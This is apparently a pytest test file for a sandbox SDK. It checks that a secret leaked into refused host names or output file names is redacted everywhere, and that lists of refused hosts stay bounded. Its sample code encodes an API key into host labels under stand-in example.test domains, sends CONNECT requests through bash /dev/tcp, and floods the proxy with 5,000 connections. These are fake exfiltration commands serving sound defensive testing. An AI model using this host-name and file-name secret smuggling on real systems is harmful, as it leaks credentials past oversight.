"""What the code chooses and core reports: refused hosts and out-file names carry no secret, and stay bounded.

The code picks the host names it tries and the names of the files it leaves,
and both leave the box: in the result, the audit event and the app's log. Here
the code in a real box encodes its secret into both, and tries thousands of
hosts, through the real proxy.
"""

from __future__ import annotations

import json
import logging
import os
from typing import Any

import pytest
from loopback import NETWORK_CONFIG, RESOLVE
from mainsdk import secret
from mainsdk.config import load_config_text
from mainsdk.errors import HOST_NOT_ALLOWED
from mainsdk.limits import MAX_HOST_LENGTH, MAX_HOSTS_REFUSED, MAX_REFUSED_LOG_LINES

from mainsdk_local import local_sandbox_driver

pytestmark = pytest.mark.skipif(not os.path.exists("/proc/self/ns/net"), reason="Linux only")

SECRET_VALUE = "Tok-Weather-5e3c"  # mixed case: the proxy lowercases host names, and DNS ignores case


def make_secret_sandbox(make_sandbox: Any) -> Any:
    """The network sandbox, with TEST_API_KEY's value coming from the test."""
    config = load_config_text(NETWORK_CONFIG)
    driver = local_sandbox_driver(permissions=config.permissions, resolve=RESOLVE)
    return make_sandbox(NETWORK_CONFIG, driver=driver, secret={"TEST_API_KEY": SECRET_VALUE}.get)


def _everything_said(result: Any, events: list[Any], records: list[logging.LogRecord]) -> str:
    """The result, every audit event and every log line, as one text."""
    logs = [r.getMessage() + (r.exc_text or "") for r in records]
    return json.dumps([result.to_dict(), [e.to_dict() for e in events], logs], default=str)


# The code tries its secret as a host label (as given and upper-cased), through plain HTTP and CONNECT,
# and leaves a file named after it.
LEAK = r"""
import os, socket, urllib.error, urllib.request
key = os.environ["KEY"]
for host in (f"{key}.x.example.test", f"{key.upper()}.y.example.test", f"a-{key}-b.z.example.test"):
    try:
        urllib.request.urlopen(f"http://{host}:1/")
    except urllib.error.HTTPError as exc:
        print(exc.code)
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(f"CONNECT {key}.tunnel.example.test:443 HTTP/1.1\r\nHost: {key}.tunnel.example.test:443\r\n\r\n".encode())
print(s.recv(12).decode())
os.makedirs("../out/dir", exist_ok=True)
open(f"../out/{key}.txt", "w").write("x")
open(f"../out/dir/{key.upper()}", "w").write("y")
"""


def test_a_secret_in_a_host_name_or_a_file_name_is_redacted_everywhere(
    make_sandbox: Any, caplog: pytest.LogCaptureFixture
) -> None:
    built = make_secret_sandbox(make_sandbox)
    with caplog.at_level(logging.DEBUG):
        result = built.sandbox.run(LEAK, network=["api.example.test"], env={"KEY": secret("TEST_API_KEY")})
    assert result.stdout == "403\n403\n403\nHTTP/1.1 403\n", result.stderr
    everything = _everything_said(result, built.events, caplog.records).lower()
    assert SECRET_VALUE.lower() not in everything
    assert result.hosts_refused == (
        "[redacted:secret].x.example.test",
        "[redacted:secret].y.example.test",
        "a-[redacted:secret]-b.z.example.test",
        "[redacted:secret].tunnel.example.test",
    )
    assert sorted(f.name for f in result.files) == ["[redacted:secret].txt", "dir/[redacted:secret]"]
    assert built.events[-1].hosts_refused == result.hosts_refused
    warnings = [r.getMessage() for r in caplog.records if r.name == "mainsdk" and r.levelno == logging.WARNING]
    assert len(warnings) == 4 and all(HOST_NOT_ALLOWED in w and result.id in w for w in warnings)


def test_a_secret_in_a_session_commands_host_is_redacted(make_sandbox: Any, caplog: pytest.LogCaptureFixture) -> None:
    built = make_secret_sandbox(make_sandbox)
    request = "printf 'CONNECT %s.s.example.test:1 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' \"$KEY\" >&3"
    with (
        caplog.at_level(logging.DEBUG),
        built.sandbox.create(network=["api.example.test"], env={"KEY": secret("TEST_API_KEY")}) as session,
    ):
        refused = session.run("bash", ["-c", f"exec 3<>/dev/tcp/127.0.0.1/3128; {request}; head -c 12 <&3"])
    assert refused.stdout == "HTTP/1.1 403", refused.stderr
    assert refused.hosts_refused == ("[redacted:secret].s.example.test",)
    logs = [r.getMessage() for r in caplog.records]
    texts = json.dumps([repr(refused), [e.to_dict() for e in built.events], logs], default=str).lower()
    assert SECRET_VALUE.lower() not in texts


# 5,000 distinct hosts, each on its own connection to the proxy, each refused.
FLOOD = r"""
import socket
for i in range(5000):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(f"CONNECT h{i}.flood.example.test:443 HTTP/1.1\r\nHost: h{i}.flood.example.test\r\n\r\n".encode())
    assert s.recv(12) == b"HTTP/1.1 403"
    s.close()
print("done")
"""


def test_thousands_of_refused_hosts_are_kept_counted_and_logged_within_bounds(
    make_sandbox: Any, caplog: pytest.LogCaptureFixture
) -> None:
    built = make_secret_sandbox(make_sandbox)
    with caplog.at_level(logging.WARNING, logger="mainsdk"):
        result = built.sandbox.run(FLOOD, network=["api.example.test"], limits={"timeout": "20s"})
    assert (result.stdout, result.stop) == ("done\n", None), result.stderr[-2000:]
    assert len(result.hosts_refused) == MAX_HOSTS_REFUSED
    assert result.hosts_refused[:2] == ("h0.flood.example.test", "h1.flood.example.test")
    assert result.hosts_refused_dropped == 5000 - MAX_HOSTS_REFUSED
    [event] = built.events
    assert (event.hosts_refused, event.hosts_refused_dropped) == (result.hosts_refused, 5000 - MAX_HOSTS_REFUSED)
    assert len(json.dumps(event.to_dict())) < 4096  # bounded: 50 short names and a count
    warnings = [r.getMessage() for r in caplog.records if r.name == "mainsdk" and r.levelno == logging.WARNING]
    assert len(warnings) == MAX_REFUSED_LOG_LINES + 1
    assert f"and {5000 - MAX_REFUSED_LOG_LINES} more hosts refused" in warnings[-1] and result.id in warnings[-1]


def test_a_long_reported_host_is_cut_after_redaction() -> None:
    # A driver (not the local proxy, which refuses names over 253 with a 400) may report any string.
    from mainsdk.limits import OutputCollector

    collector = OutputCollector(1000, [SECRET_VALUE.encode()], label="run_x")
    collector.host_refused("a" * 240 + SECRET_VALUE.upper() + ".example.test")
    [host] = collector.hosts_refused
    assert len(host) == MAX_HOST_LENGTH and host.startswith("a" * 240 + "[redacted:sec")
